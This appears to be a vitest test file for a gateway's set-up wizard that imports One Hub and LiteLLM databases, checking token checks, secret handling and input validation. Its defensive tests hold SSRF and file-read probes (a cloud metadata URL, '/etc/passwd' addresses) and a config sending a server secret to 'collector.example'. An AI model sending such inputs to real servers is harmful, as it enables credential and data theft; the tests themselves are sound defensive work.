import { readFile } from "node:fs/promises";
import { request } from "node:http";
import type { AddressInfo } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import {
  type ImportRun,
  type ImportStart,
  MAX_IMPORT_FILE,
  MAX_LITELLM_CONFIG,
} from "@gateway/shared/site/migration";
import Fastify from "fastify";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { consoleRoutes } from "#console/index.ts";
import { issueSetupToken } from "#domain/accounts/setup.ts";
import { oneHubColumns } from "#migration/products/one-hub/columns.ts";
import { foreignDatabase } from "#test/cli/foreign-database.ts";
import { litellmDatabase, salt, smallLitellm } from "#test/cli/litellm-rows.ts";
import { oneHubRows } from "#test/cli/one-hub-rows.ts";
import { type Answer, buildConsole, origin, type TestConsole } from "#test/console.ts";

const cases: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const close of cases.splice(0).reverse()) await close();
});

/** An installation before its set-up, and what the wizard sends to it. */
async function openWizard() {
  const site = await buildConsole();
  const token = (await issueSetupToken(site.database.db, site.services.secrets)) ?? "";
  return { site, token, ...withLink(site, token) };
}

/** A wizard for one test, which completes the set-up. */
async function wizard() {
  const opened = await openWizard();
  cases.push(() => opened.site.close());
  return opened;
}

function withLink(site: TestConsole, token: string) {
  const headers = { "x-setup-token": token };
  const ask = async (method: "GET" | "POST", path: string, body?: unknown) => {
    const response = await site.app.inject({
      method,
      url: `/api/migration${path}`,
      headers: { ...origin, ...headers },
      ...(body === undefined ? {} : { payload: body as object }),
    });
    return { status: response.statusCode, body: response.json<Answer<ImportRun>["body"]>() };
  };
  return {
    ask,
    start: (body: Partial<ImportStart>) =>
      ask("POST", "/run", { product: "one-hub", dry_run: true, ...body }),
    upload: async (id: number, file: Buffer, name = "one-api.db") => {
      const response = await site.app.inject({
        method: "PUT",
        url: `/api/migration/run/${id}/file?name=${encodeURIComponent(name)}`,
        headers: { ...origin, ...headers, "content-type": "application/octet-stream" },
        payload: file,
      });
      return { status: response.statusCode, body: response.json<Answer<ImportRun>["body"]>() };
    },
    async ended(id: number): Promise<ImportRun> {
      return expect
        .poll(
          async () => {
            const { body } = await ask("GET", `/run/${id}`);
            return body.data;
          },
          { timeout: 60_000, interval: 100 },
        )
        .toMatchObject({ status: expect.stringMatching(/^(done|failed|cancelled)$/) })
        .then(async () => (await ask("GET", `/run/${id}`)).body.data);
    },
  };
}

async function oneHub(kind: "sqlite" | "postgres") {
  const source = await foreignDatabase(kind, oneHubColumns, await oneHubRows());
  cases.push(() => source.remove());
  return source;
}

it("imports an uploaded file after a dry run, and keeps the report for root", async () => {
  const { site, start, upload, ended, ask } = await wizard();
  const file = await readFile((await oneHub("sqlite")).from);

  const dry = (await start({})).body.data;
  expect(dry.status).toBe("waiting");
  expect((await upload(dry.id, file)).status).toBe(200);
  const tried = await ended(dry.id);
  expect(tried).toMatchObject({
    status: "done",
    origin: "one-api.db",
    failure: null,
    progress: expect.arrayContaining([{ kind: "users", rows: 5 }]),
    report: {
      dry_run: true,
      ok: true,
      origin: "one-api.db",
      proof: { balances_compared: 5, balances_different: 0 },
    },
  });
  expect(await site.database.db.user.count()).toBe(0);

  // The file is still there: it is not sent twice.
  const real = (await start({ dry_run: false, file_of: dry.id })).body.data;
  expect(real.status).toBe("running");
  const done = await ended(real.id);
  expect(done).toMatchObject({ status: "done", report: { dry_run: false, ok: true } });
  expect(done.report?.proof.balances?.[0]).toMatchObject({ id: 2, name: "Анна 1", here: "5000000000000" });
  expect(await site.database.db.user.count()).toBe(5);

  // The link is used up for everything but the run that it started.
  expect(await start({})).toMatchObject({ status: 409, body: { code: "setup_done" } });
  expect((await ask("GET", `/run/${real.id}`)).status).toBe(200);
  expect((await withLink(site, "x").ask("GET", `/run/${real.id}`)).status).toBe(404);

  const root = await site.as(await site.database.db.user.findFirstOrThrow({ where: { role: 100 } }));
  const list = await root.get<{ id: number }[]>("/api/migration/report");
  expect(list.body.data).toMatchObject([
    { product: "one-hub", title: "One Hub", origin: "one-api.db", users: 5, ok: true },
  ]);
  const report = await root.get(`/api/migration/report/${list.body.data[0]?.id}`);
  expect(report.body.data).toMatchObject({ title: "One Hub", report: { format: 1, ok: true } });
  expect((await root.get("/api/migration/report/99")).status).toBe(404);
});

it("imports from a database address, of which nothing is kept but host and name", async () => {
  const { site, start, ended } = await wizard();
  const { from } = await oneHub("postgres");
  const run = (await start({ address: from, log_days: 30 })).body.data;
  const done = await ended(run.id);
  expect(done).toMatchObject({ status: "done", report: { ok: true } });
  const { rows } = await site.database.pool.query<{ row: string }>(
    "SELECT import_runs::text AS row FROM import_runs",
  );
  expect(rows.map(({ row }) => row).join()).not.toContain(`:${new URL(from).password}@`);
  expect(JSON.stringify(done)).not.toContain(`:${new URL(from).password}@`);
});

it("imports LiteLLM with its salt key and config.yaml, and keeps neither", async () => {
  const { site, start, ended } = await wizard();
  const source = await litellmDatabase(smallLitellm());
  cases.push(() => source.remove());
  const litellm = (given: ImportStart["litellm"], address = source.from) =>
    start({ product: "litellm", address, litellm: given });
  const failure = async (given: ImportStart["litellm"]) =>
    (await ended((await litellm(given)).body.data.id)).failure;
  expect((await litellm({}, "")).body).toMatchObject({ code: "invalid_request" });
  expect((await litellm({}, "mysql://a:b@host/litellm")).status).toBe(400);
  expect((await litellm({ config: "x".repeat(MAX_LITELLM_CONFIG + 1) })).status).toBe(400);
  expect(await failure({})).toMatchObject({ params: { reason: "litellm_salt_missing" } });
  expect(await failure({ salt_key: "another" })).toMatchObject({ params: { reason: "litellm_salt_wrong" } });
  const broken = await failure({ salt_key: salt, config: "model_list: [\n  sk-in-a-config: {" });
  expect(broken).toMatchObject({ params: { reason: "litellm_config_not_yaml" } });
  expect(JSON.stringify(broken)).not.toContain("sk-in-a-config");

  // A configuration could send a variable of this server to any address.
  process.env["WIZARD_TEST_SECRET"] = "of this server";
  cases.push(async () => delete process.env["WIZARD_TEST_SECRET"]);
  const config = `model_list:
  - model_name: elsewhere
    litellm_params: { model: openai/gpt-5, api_base: "https://collector.example", api_key: os.environ/WIZARD_TEST_SECRET }
  - model_name: plain
    litellm_params: { model: openai/gpt-5, api_key: sk-in-the-config }
`;
  const real = await start({
    product: "litellm",
    dry_run: false,
    address: source.from,
    litellm: { salt_key: salt, config, credit: 50 },
  });
  const done = await ended(real.body.data.id);
  expect(done, JSON.stringify(done.failure)).toMatchObject({ status: "done", report: { ok: true } });
  const { db, pool } = site.database;
  expect(await db.user.findFirst({ where: { username: "ada" } })).toMatchObject({ quota: 25_000_000n });
  const channels = await db.channel.findMany({ include: { keys: true, models: true } });
  const keyOf = (model: string) => {
    const channel = channels.find(({ models }) => models.some((each) => each.model === model));
    const [key] = channel?.keys ?? [];
    return key && site.services.secrets.decrypt(key.key_encrypted, `channel:${channel?.id}`);
  };
  expect([keyOf("claude"), keyOf("plain"), keyOf("elsewhere")]).toEqual([
    "sk-ant-of-litellm",
    "sk-in-the-config",
    undefined,
  ]);
  const { rows } = await pool.query<{ row: string }>(
    "SELECT import_runs::text AS row FROM import_runs UNION ALL SELECT imports::text FROM imports UNION ALL SELECT audit_entries::text FROM audit_entries",
  );
  const stored = `${rows.map(({ row }) => row).join()} ${JSON.stringify(done)}`;
  for (const secret of [salt, "sk-ant-of-litellm", "sk-in-the-config", "of this server"])
    expect(stored).not.toContain(secret);
});

describe("a wizard that imports nothing", () => {
  let opened: Awaited<ReturnType<typeof openWizard>>;
  beforeAll(async () => {
    opened = await openWizard();
  });
  afterAll(() => opened.site.close());

  it("does nothing without the set-up link, and connects to databases over the network only", async () => {
    const { site, start, upload } = opened;
    const stranger = withLink(site, "not the link");
    expect(await stranger.start({ address: "mysql://a:b@127.0.0.1/x" })).toMatchObject({
      status: 401,
      body: { code: "wrong_credentials" },
    });
    const waiting = (await start({})).body.data;
    expect((await stranger.upload(waiting.id, Buffer.from("x"))).status).toBe(401);
    expect((await upload(waiting.id + 1, Buffer.from("x"))).status).toBe(404);
    for (const address of [
      "/etc/passwd",
      "file:///etc/passwd",
      "postgres:///newapi?host=/var/run/postgresql",
      "postgres://%2Fvar%2Frun/newapi",
      "postgres://%2fvar%2frun/newapi",
      "postgres://db%2frun/newapi",
      "postgres://a:b@host/newapi?sslrootcert=/etc/passwd",
      "postgres://a:%ZZ@host/newapi",
      "mysql://a:b@host:3306",
      "http://169.254.169.254/latest",
    ]) {
      const answer = await start({ address });
      expect(answer, address).toMatchObject({ status: 400, body: { code: "invalid_request" } });
      expect(JSON.stringify(answer.body)).not.toContain("%ZZ");
    }
    expect((await start({ product: "other" })).status).toBe(400);
  });

  it("reports what is wrong with a file or an address, and changes nothing", async () => {
    const { site, start, upload, ended } = opened;
    const failed = async (file: Buffer, product = "one-hub") => {
      const { id } = (await start({ product })).body.data;
      await upload(id, file);
      return (await ended(id)).failure;
    };
    expect(await failed(Buffer.from("not a database"))).toMatchObject({
      params: { reason: "source_not_sqlite" },
    });
    expect(await failed(Buffer.alloc(0))).toMatchObject({ params: { reason: "source_not_sqlite" } });
    const file = await readFile((await oneHub("sqlite")).from);
    expect(await failed(file, "new-api")).toMatchObject({
      params: { reason: "source_other_product", other: "One Hub", product: "New API" },
    });
    const away = (await start({ address: "postgres://a:topsecret@127.0.0.1:9/newapi" })).body.data;
    const unreachable = await ended(away.id);
    expect(unreachable.failure).toMatchObject({
      params: { reason: "source_unreadable", detail: expect.stringContaining("ECONNREFUSED") },
    });
    expect(JSON.stringify(unreachable)).not.toContain("topsecret");
    expect(await site.database.db.user.count()).toBe(0);
  });

  it("takes one import at a time, and gives one up on request or when its node is silent", async () => {
    const { site, start, upload, ended, ask } = opened;
    const { db } = site.database;
    const first = (await start({})).body.data;
    // Starting again gives up an import whose file never came.
    const second = (await start({})).body.data;
    expect(await upload(first.id, Buffer.from("x"))).toMatchObject({
      status: 409,
      body: { code: "conflict" },
    });
    await db.importRun.update({ where: { id: second.id }, data: { status: "running" } });
    expect(await start({})).toMatchObject({ status: 409, body: { code: "conflict" } });
    await ask("POST", `/run/${second.id}/cancel`, {});
    expect((await ended(second.id)).status).toBe("cancelled");
    const third = (await start({})).body.data;
    await db.importRun.update({
      where: { id: third.id },
      data: { status: "running", beat_time: new Date(Date.now() - 60_000) },
    });
    expect((await ask("GET", `/run/${third.id}`)).body.data.status).toBe("interrupted");
  });

  it("accepts a large file without a body limit of the management API", async () => {
    const { start, upload, ended } = opened;
    const { id } = (await start({})).body.data;
    expect(MAX_IMPORT_FILE).toBe(4 * 1024 ** 3);
    expect((await upload(id, Buffer.alloc(5 * 1024 ** 2, 1))).status).toBe(200);
    expect((await ended(id)).failure?.params["reason"]).toBe("source_not_sqlite");
  });
});

it("receives a file for longer than other requests may last, while its sender goes on", async () => {
  const { site, token, start } = await wizard();
  const { id } = (await start({})).body.data;
  const app = Fastify({
    requestTimeout: 300,
    http: { connectionsCheckingInterval: 50, headersTimeout: 300 },
  });
  cases.push(() => app.close());
  await app.register(consoleRoutes, { services: site.services });
  await app.listen({ port: 0, host: "127.0.0.1" });
  const { port } = app.server.address() as AddressInfo;
  const send = async (method: string, path: string) => {
    const sent = request({
      port,
      method,
      path: `/api/migration${path}`,
      headers: { ...origin, "x-setup-token": token, "content-type": "application/octet-stream" },
    });
    const status = new Promise<number | undefined>((resolve) => {
      sent.on("response", (response) => resolve(response.resume().statusCode)).on("error", () => resolve(0));
    });
    for (let piece = 0; piece < 20 && !sent.destroyed; piece += 1) {
      sent.write(" ");
      await sleep(50);
    }
    sent.end();
    return status;
  };
  expect(await send("PUT", `/run/${id}/file?name=one-api.db`)).toBe(200);
  expect(await send("POST", "/run")).toBe(408);
  expect(app.server.requestTimeout).toBe(300);
});
